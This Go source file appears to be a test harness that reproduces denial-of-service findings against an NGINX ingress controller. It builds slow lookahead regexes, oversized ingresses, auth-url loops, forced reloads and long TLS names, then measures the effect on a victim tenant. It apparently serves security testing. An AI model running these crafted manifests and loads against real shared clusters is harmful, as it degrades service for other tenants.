package main

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"
)

// attacks are those that cost others something. Those that open something have
// a test each, see docs/security.md.
func attacks() []attack {
	return []attack{
		{
			finding: "A1", about: "190 slow path expressions, paths of 600 bytes",
			manifests: one(func(a *arena) string { return slowPaths(a, 190) }), ready: answering("other.evil.test"),
			loads: []load{{request: get("evil.test", "/"+strings.Repeat("a", 600)+"Q0123456789")}},
		},
		{
			finding: "A1", about: "4 slow path expressions, paths of 7,900 bytes",
			manifests: one(func(a *arena) string { return slowPaths(a, 4) }), ready: answering("other.evil.test"),
			loads: []load{{request: get("evil.test", "/"+strings.Repeat("a", 7900)+"Q0123456789")}},
		},
		{
			finding: "A1", about: "a slow expression for a canary's header",
			manifests: one(func(a *arena) string {
				return ingressTo(rival, "evil", "evil.test", "web", "") + servicePort(rival, "web", a.plain) + servicePort(rival, "new", a.plain) +
					ingressTo(rival, "canary", "evil.test", "new", annotations("canary", "true", "canary-by-header", "x-a", "canary-by-header-pattern", "^"+slow(0)))
			}), ready: answering("evil.test"),
			loads: []load{{request: get("evil.test", "/", "X-A: "+strings.Repeat("a", 7900)+"Q0123456789")}},
		},
		{
			finding: "A1", about: "a slow expression of rewrite-target",
			manifests: one(func(a *arena) string {
				return ingressTo(rival, "evil", "evil.test", "web", annotations("rewrite-target", "/$1"), "/"+strings.TrimSuffix(slow(0), "Q0")+"(a*)Q0", "/") + servicePort(rival, "web", a.plain)
			}), ready: answering("evil.test"),
			loads: []load{{request: get("evil.test", "/"+strings.Repeat("a", 4000)+"Q0123456789")}},
		},
		{
			finding: "A2", about: "100 Ingresses with auth-url http://$host and one with 10,000 expressions, one changes each second",
			manifests: func(a *arena) map[string]string {
				files := map[string]string{
					"evil-root.yaml": ingressTo(rival, "evil-root", "evil.test", "web", "") + servicePort(rival, "web", a.plain),
					"evil-big.json":  bigIngress("evil-big", "evil.test", "/x[0-9]/%d", 0, 10_000, `"nginx.ingress.kubernetes.io/use-regex":"true"`),
				}
				for i := range 100 {
					files[fmt.Sprintf("evil-%d.yaml", i)] = asking(i, 0)
				}
				return files
			}, ready: answering("evil.test"),
			write: func(_ context.Context, a *arena, i int) error { return a.put("evil-7.yaml", asking(7, i+1)) }, each: time.Second,
		},
		{
			finding: "A5", about: "a new combination of static settings twice a second, each with two WebSockets held open",
			manifests: one(func(a *arena) string {
				return ingressTo(rival, "evil", "evil.test", "web", "") + servicePort(rival, "web", a.other)
			}),
			write: func(_ context.Context, a *arena, i int) error {
				err := a.put("evil.yaml", ingressTo(rival, "evil", "evil.test", "web", annotations("proxy-buffer-size", fmt.Sprintf("%dk", 1<<(i%12)), "proxy-buffers-number", strconv.Itoa(8<<(i/12%6))))+servicePort(rival, "web", a.other))
				for range 2 {
					// While NGINX changes its workers, one may fail.
					_, _ = a.openSocket("evil.test")
				}
				return err
			}, each: 500 * time.Millisecond, lasts: 24 * time.Second,
		},
		{
			finding: "A6", about: "160 slow aliases, and unknown names of 220 bytes",
			manifests: one(slowNames), ready: answering("names-9.test"),
			loads: []load{{request: func(i int) string { return get(fmt.Sprintf("%s%d.test", strings.Repeat("a", 220), i), "/")(i) }}},
		},
		{
			finding: "A6", about: "the same names in TLS handshakes",
			manifests: one(slowNames), ready: answering("names-9.test"),
			loads: []load{{serverName: func(i int) string { return longName(i) }}},
		},
		{
			finding: "A7", about: "two hosts of 60,000 paths, by turns",
			manifests: func(a *arena) map[string]string { return bigHosts(a, 2, 5, 12_000) }, ready: answering(bigNames(2)...),
			loads: []load{{request: func(i int) string { return get(bigName(i%2), "/")(i) }}},
		},
		{
			finding: "A7", about: "40 hosts of 5,000 paths, by turns",
			manifests: func(a *arena) map[string]string { return bigHosts(a, 40, 1, 5_000) }, ready: answering(bigNames(40)...),
			loads: []load{{request: func(i int) string { return get(bigName(i%40), "/")(i) }}},
		},
		{
			finding: "A10", about: "10 changes a second of one path of a host of 60,000",
			manifests: func(a *arena) map[string]string { return bigHosts(a, 1, 5, 12_000) }, ready: answering(bigNames(1)...),
			write: func(_ context.Context, a *arena, i int) error {
				return a.put("evil-small.yaml", ingressTo(rival, "small", "big-0.test", "web", "", fmt.Sprintf("/small-%d", i)))
			}, each: 100 * time.Millisecond,
		},
		{
			finding: "A11", about: "205 older Ingresses with combinations of static settings",
			manifests: one(combinations), ready: answering("b204.test"),
			check: takesLargeBodies,
		},
		{
			finding: "C1", about: "a controller that is stopped, and requests that NGINX logs",
			manifests: one(func(a *arena) string {
				return ingressTo(rival, "evil", "evil.test", "dead", "") + servicePort(rival, "dead", 9)
			}), ready: answeringWith(http.StatusBadGateway, "evil.test"),
			begin:   func(a *arena) error { return a.process.cmd.Process.Signal(syscall.SIGSTOP) },
			end:     func(a *arena) error { return a.process.cmd.Process.Signal(syscall.SIGCONT) },
			loads:   []load{{request: get("evil.test", "/"+strings.Repeat("a", 1900))}},
			stopped: true,
		},
		{
			finding: "C3", about: "a guard together with a new combination of static settings, while others reload (time until it closes)",
			manifests: one(func(a *arena) string { return servicePort(rival, "web", a.plain) }),
			measure:   closing,
		},
	}
}

func one(manifest func(*arena) string) func(*arena) map[string]string {
	return func(a *arena) map[string]string { return map[string]string{"evil.yaml": manifest(a)} }
}

// answering waits until hosts of the attacker are served.
func answering(hosts ...string) func(context.Context, *arena) error {
	return answeringWith(http.StatusOK, hosts...)
}

func answeringWith(status int, hosts ...string) func(context.Context, *arena) error {
	return func(ctx context.Context, a *arena) error {
		for _, host := range hosts {
			if err := a.answers(ctx, host, status); err != nil {
				return err
			}
		}
		return nil
	}
}

// get is a request for a path of a host.
func get(host, path string, headers ...string) func(int) string {
	text := "GET " + path + " HTTP/1.1\r\nHost: " + host + "\r\n" + strings.Join(append(headers, ""), "\r\n") + "\r\n"
	return func(int) string { return text }
}

// slow is an expression that looks at a long text for long, within the match limit.
func slow(number int) string {
	var b strings.Builder
	for i := range 10 {
		fmt.Fprintf(&b, "(?!.*.*X%d)", i)
	}
	return fmt.Sprintf("%sQ%d", &b, number)
}

// annotations are those of an Ingress, by names and values.
func annotations(pairs ...string) string {
	var b strings.Builder
	b.WriteString("  annotations:\n")
	for i := 0; i < len(pairs); i += 2 {
		fmt.Fprintf(&b, "    nginx.ingress.kubernetes.io/%s: %q\n", pairs[i], pairs[i+1])
	}
	return b.String()
}

// ingressTo is an Ingress of a namespace for a Service of its own.
func ingressTo(of, name, host, service, metadata string, paths ...string) string {
	quoted := make([]string, len(paths))
	for i, path := range paths {
		quoted[i] = strconv.Quote(path)
	}
	text := ingress(name, host, metadata, quoted...)
	return "---\n" + strings.NewReplacer("namespace: "+namespace, "namespace: "+of, "{name: web,", "{name: "+service+",").Replace(text)
}

// servicePort is a Service of a namespace at a port of this machine.
func servicePort(of, name string, port int) string {
	return "---\n" + strings.NewReplacer("namespace: "+namespace, "namespace: "+of, "name: web", "name: "+name, "service-name: web", "service-name: "+name).Replace(service(port))
}

func slowPaths(a *arena, n int) string {
	var paths []string
	for i := range n {
		paths = append(paths, "/"+slow(i))
	}
	return ingressTo(rival, "evil", "evil.test", "web", annotations("use-regex", "true"), paths...) +
		ingressTo(rival, "other", "other.evil.test", "web", "") + servicePort(rival, "web", a.plain)
}

func slowNames(a *arena) string {
	var b strings.Builder
	for i := range 10 {
		var aliases []string
		for j := range 16 {
			aliases = append(aliases, fmt.Sprintf(`~^(?!.*.*.*X%d)(?=.{252}.{252})`, 16*i+j))
		}
		b.WriteString(ingressTo(rival, fmt.Sprint("names-", i), fmt.Sprintf("names-%d.test", i), "web", annotations("server-alias", strings.Join(aliases, ", "))))
	}
	return b.String() + servicePort(rival, "web", a.plain)
}

// longName is a server name of 220 bytes, which is what TLS takes in labels of 63.
func longName(i int) string {
	label := strings.Repeat("a", 50)
	return fmt.Sprintf("%s.%s.%s.%s%06d.test", label, label, label, label, i)
}

func asking(i, change int) string {
	return ingressTo(rival, fmt.Sprint("evil-", i), "evil.test", "web", annotations("auth-url", fmt.Sprintf("http://$host/x1/%d?c=%d", i, change)), fmt.Sprintf("/a-%d", i))
}

// bigIngress has paths of a format, with numbers from first on. JSON is read faster than YAML.
func bigIngress(name, host, path string, first, paths int, annotations string) string {
	var b strings.Builder
	fmt.Fprintf(&b, `{"apiVersion":"networking.k8s.io/v1","kind":"Ingress","metadata":{"name":%q,"namespace":%q,"creationTimestamp":"2021-01-01T00:00:00Z","annotations":{%s}},"spec":{"rules":[{"host":%q,"http":{"paths":[`, name, rival, annotations, host)
	for i := range paths {
		if i > 0 {
			b.WriteByte(',')
		}
		kind := "Exact"
		if annotations != "" {
			kind = "ImplementationSpecific"
		}
		fmt.Fprintf(&b, `{"path":%q,"pathType":%q,"backend":{"service":{"name":"web","port":{"number":80}}}}`, fmt.Sprintf(path, first+i), kind)
	}
	return b.String() + "]}}]}}"
}

func bigName(i int) string { return fmt.Sprintf("big-%d.test", i) }

func bigNames(n int) (names []string) {
	for i := range n {
		names = append(names, bigName(i))
	}
	return names
}

func bigHosts(a *arena, hosts, ingresses, paths int) map[string]string {
	files := map[string]string{"evil-service.yaml": servicePort(rival, "web", a.plain)}
	for host := range hosts {
		name := bigName(host)
		for i := range ingresses {
			ingress := fmt.Sprintf("big-%d-%d", host, i)
			files["evil-"+ingress+".json"] = bigIngress(ingress, name, "/some/path/of/a/large/host/%06d", i*paths, paths, "")
		}
		files[fmt.Sprintf("evil-root-%d.yaml", host)] = ingressTo(rival, fmt.Sprint("root-", host), name, "web", "  creationTimestamp: 2020-01-01T00:00:00Z\n", "/")
	}
	return files
}

func combinations(a *arena) string {
	var b strings.Builder
	for n := range 205 {
		b.WriteString(ingressTo(rival, fmt.Sprint("b", n), fmt.Sprintf("b%d.test", n), "web", "  creationTimestamp: 2000-01-01T00:00:00Z\n"+
			annotations("proxy-buffer-size", fmt.Sprintf("%dk", 1<<(n%13)), "proxy-body-size", strings.Fields("1k 2k 5k 10k 20k 50k 100k 200k")[n/13%8],
				"proxy-next-upstream", []string{"error", "timeout"}[n/104])))
	}
	return b.String() + servicePort(rival, "web", a.plain)
}

// takesLargeBodies sends the victim 3 MB of the 20 MB that it takes.
func takesLargeBodies(ctx context.Context, a *arena) error {
	// What came last may take a reload, which comes up to three seconds later.
	time.Sleep(4 * time.Second)
	status, err := a.upload(ctx)
	if status != http.StatusOK {
		return errors.Join(fmt.Errorf("the victim's upload of 3 MB: %d", status), err)
	}
	return nil
}

// closing measures how long a host of the victim's is open after it got a guard, with and
// without what needs a reload. The attacker causes another one just before.
func closing(ctx context.Context, a *arena, attacked bool) (figures, error) {
	var f figures
	var times []float64
	c := a.client()
	defer c.close()
	for i := range 4 {
		name := fmt.Sprintf("guarded-%t-%d", attacked, i)
		host, guard := name+".example.com", []string{"auth-type", "basic", "auth-secret", "users"}
		if err := a.put("users.yaml", guardUsers); err != nil {
			return f, err
		}
		if err := a.put(name+".yaml", ingress(name, host, "")); err != nil {
			return f, err
		}
		if err := a.answers(ctx, host, http.StatusOK); err != nil {
			return f, err
		}
		if attacked {
			guard = append(guard, "proxy-buffer-size", fmt.Sprintf("%dk", 8<<i))
			if err := a.put("evil-reload.yaml", ingressTo(rival, "reload", "reload.test", "web", annotations("proxy-buffer-size", fmt.Sprintf("%dk", 128<<i)))); err != nil {
				return f, err
			}
			time.Sleep(100 * time.Millisecond)
		}
		begin, err := a.rename(name+".yaml", ingress(name, host, annotations(guard...)))
		if err != nil {
			return f, err
		}
		if _, err := await(ctx, c.expect(ctx, host, http.StatusOK, func(got answer) bool { return got.status == http.StatusUnauthorized })); err != nil {
			return f, err
		}
		times = append(times, milliseconds(time.Since(begin)))
		if err := os.Remove(filepath.Join(a.folder, name+".yaml")); err != nil {
			return f, err
		}
	}
	plain, err := a.measure(ctx, window, false)
	plain.Change, plain.Changes = percentile(times, 50), len(times)
	return plain, err
}

const guardUsers = "apiVersion: v1\nkind: Secret\nmetadata: {name: users, namespace: " + namespace + "}\nstringData: {auth: 'user:{PLAIN}pass'}\n"
